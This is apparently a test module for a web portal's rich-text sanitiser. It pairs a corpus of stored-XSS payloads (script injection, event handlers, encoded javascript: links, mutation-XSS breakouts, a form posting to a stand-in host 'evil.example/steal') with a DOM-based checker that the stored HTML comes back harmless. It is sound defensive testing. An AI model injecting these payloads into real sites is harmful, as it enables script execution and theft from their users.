// A stored-XSS corpus for every rich-text field of the portal (articles' bodies, custom pages' bodies), and
// the check that what comes back is harmless: parsed with a DOM, no element that runs or embeds anything, no
// event handler, no link or image to a scheme other than http(s)/mailto/tel or a portal path, no image that
// is not one of our own uploads. `{{IMAGE}}` in a case stands for a real `/api/v1/uploads/<id>` URL the test
// uploaded, so the case passes the "own upload" rule and only its attack is left to strip.
import { createRequire } from 'node:module';

export interface XssCase {
  name: string;
  html: string;
}

export const XSS_CORPUS: readonly XssCase[] = [
  // ---- script elements
  { name: 'script tag', html: '<script>alert(1)</script><p>ok</p>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'upper-case script', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script split by a null', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'script nested in a broken tag', html: '<<script>script>alert(1)<</script>/script>' },
  { name: 'unclosed script', html: '<p>a</p><script>alert(1)' },
  // ---- event handlers
  { name: 'img onerror', html: '<img src="x" onerror="alert(1)">' },
  { name: 'own image with onerror', html: '<img src="{{IMAGE}}" onerror="alert(1)" onload="alert(2)">' },
  { name: 'body onload', html: '<body onload="alert(1)"><p>x</p></body>' },
  { name: 'p onclick', html: '<p onclick="alert(1)" onmouseover="alert(2)">click</p>' },
  { name: 'handler without quotes', html: '<p/onmouseover=alert(1)>x</p>' },
  { name: 'details ontoggle', html: '<details open ontoggle="alert(1)"><summary>x</summary></details>' },
  { name: 'table cell handler', html: '<table><tr><td onclick="alert(1)" colspan="2">x</td></tr></table>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus="alert(1)">' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  // ---- javascript: links
  { name: 'javascript link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'mixed-case javascript', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  {
    name: 'entity-encoded javascript',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'hex entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  { name: 'tab inside the scheme', html: '<a href="java\tscript:alert(1)">x</a>' },
  { name: 'encoded tab inside the scheme', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'newline inside the scheme', html: '<a href="java&#10;script:alert(1)">x</a>' },
  { name: 'leading spaces', html: '<a href="   javascript:alert(1)">x</a>' },
  { name: 'leading control character', html: '<a href="\u0001javascript:alert(1)">x</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'protocol-relative link', html: '<a href="//evil.example/">x</a>' },
  { name: 'backslash host link', html: '<a href="/\\evil.example/">x</a>' },
  { name: 'percent-encoded javascript', html: '<a href="javascript%3Aalert(1)">x</a>' },
  { name: 'javascript in formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
  // ---- SVG and MathML
  { name: 'svg onload', html: '<svg onload="alert(1)"></svg>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg animate href',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  },
  { name: 'svg image', html: '<svg><image href="https://evil.example/x.png"/></svg>' },
  { name: 'math xlink', html: '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>' },
  // ---- CSS
  { name: 'style attribute expression', html: '<p style="width: expression(alert(1))">x</p>' },
  { name: 'style url javascript', html: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'style element', html: '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'class attribute', html: '<p class="mantine-overlay">x</p>' },
  // ---- frames, objects, meta, forms
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'object data', html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'embed', html: '<embed src="https://evil.example/x.swf">' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/news">x</a>' },
  {
    name: 'form action',
    html: '<form action="https://evil.example/steal"><input name="p"><button>go</button></form>',
  },
  // ---- images and data URLs
  { name: 'outside image', html: '<img src="https://evil.example/track.png">' },
  { name: 'data image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'protocol-relative image', html: '<img src="//evil.example/x.png">' },
  { name: 'own-looking image with a query', html: '<img src="{{IMAGE}}?x=1">' },
  { name: 'srcset', html: '<img src="{{IMAGE}}" srcset="https://evil.example/x.png 2x">' },
  // ---- nested and double encodings
  { name: 'double-encoded script', html: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'double-encoded entity link', html: '<a href="&amp;#106;avascript:alert(1)">x</a>' },
  { name: 'nested tags', html: '<p><scr<script>ipt>alert(1)</scr</script>ipt></p>' },
  { name: 'comment breakout', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'cdata', html: '<![CDATA[<script>alert(1)</script>]]>' },
  // ---- mutation XSS
  {
    name: 'noscript breakout',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'template breakout',
    html: '<template><p title="</template><img src=x onerror=alert(1)>"></template>',
  },
  { name: 'style breakout', html: '<style><p title="</style><img src=x onerror=alert(1)>"></style>' },
  {
    name: 'textarea breakout',
    html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  },
  { name: 'title breakout', html: '<title><p title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: 'svg style mxss', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'math mglyph mxss', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  {
    name: 'select breakout',
    html: '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
  },
];

/** The HTML as the test sends it: `{{IMAGE}}` replaced by one of our own upload URLs. */
export const withImage = (html: string, imageUrl: string) => html.replaceAll('{{IMAGE}}', imageUrl);

interface Dom {
  window: { document: Document };
}
const require = createRequire(import.meta.url);
const { JSDOM } = require('jsdom') as { JSDOM: new (html: string) => Dom };

const FORBIDDEN_ELEMENTS =
  'script, iframe, frame, frameset, object, embed, svg, math, style, link, meta, base, form, input, button, textarea, select, template, noscript, video, audio, source';
const OWN_UPLOAD = /^\/api\/v1\/uploads\/[0-9a-f-]{36}$/;
const SAFE_HREF = /^(https?:\/\/|mailto:|tel:|\/(?![/\\]))/i;

/**
 * What is harmful in sanitised rich text, as a list of findings (empty: harmless). Rendered in a `div`,
 * as the portal does.
 */
export function harmfulParts(html: string): string[] {
  const dom = new JSDOM(`<!doctype html><html><body><div id="root">${html}</div></body></html>`);
  const root = dom.window.document.getElementById('root');
  if (!root) return ['the text broke out of its container'];
  const found: string[] = [];
  // Everything must stay inside the container: no element after it in the body.
  if (dom.window.document.body.children.length !== 1) found.push('an element outside the container');
  for (const element of root.querySelectorAll(FORBIDDEN_ELEMENTS)) found.push(`<${element.localName}>`);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${element.localName}[${name}]`);
      if (
        name === 'style' ||
        name === 'class' ||
        name === 'srcset' ||
        name === 'srcdoc' ||
        name === 'formaction'
      )
        found.push(`${element.localName}[${name}]`);
      if (name.includes('href') && name !== 'href') found.push(`${element.localName}[${name}]`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !SAFE_HREF.test(href)) found.push(`href="${href}"`);
    const src = element.getAttribute('src');
    if (src !== null && (element.localName !== 'img' || !OWN_UPLOAD.test(src))) found.push(`src="${src}"`);
    if (element.localName === 'img' && src === null) found.push('img without src');
  }
  return found;
}

/**
 * Saves every corpus case through a rich-text field and checks each HTML read back (`save` answers them:
 * the admin's answer, the public one…) is harmless. `imageUrl` is an own upload for the `{{IMAGE}}` cases.
 * A refusal (`save` answering null, e.g. a 422) is harmless too: nothing was stored.
 */
export async function checkCorpus(
  imageUrl: string,
  save: (html: string, name: string) => Promise<string[] | null>,
): Promise<Record<string, string[]>> {
  const failures: Record<string, string[]> = {};
  for (const { name, html } of XSS_CORPUS) {
    const readBack = await save(withImage(html, imageUrl), name);
    if (readBack === null) continue;
    const found = readBack.flatMap((text) => harmfulParts(text));
    if (found.length) failures[name] = found;
  }
  return failures;
}
